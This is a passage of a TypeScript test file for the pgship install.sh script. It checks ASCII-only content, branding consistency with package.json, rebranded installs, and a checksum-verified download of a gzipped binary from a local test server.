    expect(existsSync(s.dir)).toBe(false);
  });

  test("is plain ASCII (shells in the C locale reject other bytes)", () => {
    expect(readFileSync(INSTALL_SH, "utf8")).toMatch(/^[\x09\x0a\x20-\x7e]*$/);
  });

  test("its branding matches package.json's pgship section", () => {
    const text = readFileSync(INSTALL_SH, "utf8");
    expect(text).toContain(`\nBINARY_NAME="${pkg.pgship.binaryName}"\n`);
    expect(text).toContain(`\nDISPLAY_NAME="${pkg.pgship.displayName}"\n`);
    expect(text).toContain(`\nRELEASE_REPOSITORY="${pkg.pgship.releaseRepository}"\n`);
  });

  test("a rebranded copy installs the app's own binary name", async () => {
    const s = sandbox();
    const file = join(tempDir(), "install.sh");
    writeFileSync(file, readFileSync(INSTALL_SH, "utf8").replace(/^BINARY_NAME=.*$/m, 'BINARY_NAME="myapp-db"').replace(/^DISPLAY_NAME=.*$/m, 'DISPLAY_NAME="MyApp database"'));
    const r = await runInstall(dash, ["2.0.0", "--dir", s.dir], s.env, { script: file });
    expect(r.code).toBe(0);
    expect(r.stderr).toContain("myapp-db install: installing MyApp database 2.0.0 for linux-x64");
    expect(listTree(s.dir)).toEqual(["myapp-db"]);
  });
});

describe("install.sh: with the real compiled binary", () => {
  const host = process.platform === "linux" && process.arch === "x64";
  test.skipIf(!host)("installs the compiled test binary served (as .gz) as this machine's build and runs it", async () => {
    const bin = ensureBinary();
    // The build detected for this machine, with the real uname, ldd and /proc/cpuinfo.
    const s = sandbox();
    const env = { ...s.env, PATH: "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin" } as Record<string, string>;
    delete env.PGSHIP_SYSROOT;
    const dry = parseDryRun((await runInstall(dash, ["--dry-run"], env)).stdout);
    expect(PLATFORMS as readonly string[]).toContain(dry.platform!);
    const mirror = tempDir();
    copyFileSync(bin, join(mirror, dry.asset!));
    const bytes = readFileSync(join(mirror, dry.asset!));
    const gz = gzipSync(bytes, { level: 1 });
    const requested: string[] = [];
    const local = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      fetch(req) {
        const name = new URL(req.url).pathname.slice(1);
        requested.push(name);
        if (name === "SHA256SUMS") return new Response(`${sha256(bytes)}  ${dry.asset}\n${sha256(gz)}  ${dry.asset}.gz\n`);
        if (name === dry.asset) return new Response(Bun.file(join(mirror, dry.asset!)));
        if (name === `${dry.asset}.gz`) return new Response(gz);
        return new Response("Not Found", { status: 404 });
      },
    });
    try {
      const r = await runInstall(dash, ["--dir", s.dir], { ...env, PGSHIP_BASE_URL: `http://127.0.0.1:${local.port}` });
      // The test binary names itself after the test app (test/fixtures/app), whatever BINARY is.
      const version = spawnSync(bin, ["--version"], { encoding: "utf8" }).stdout;
      expect(version).toBe(`pgship ${pkg.version}\n`);
      expect(r.stderr).toContain(`installed ${join(s.dir, BINARY)} (${version.trim()})`);
      expect(r.code).toBe(0);
      expect(requested).toEqual(["SHA256SUMS", `${dry.asset}.gz`]);
      expect(spawnSync(join(s.dir, BINARY), ["--version"], { encoding: "utf8" }).stdout).toBe(version);
    } finally {
      local.stop(true);
    }
  });
});
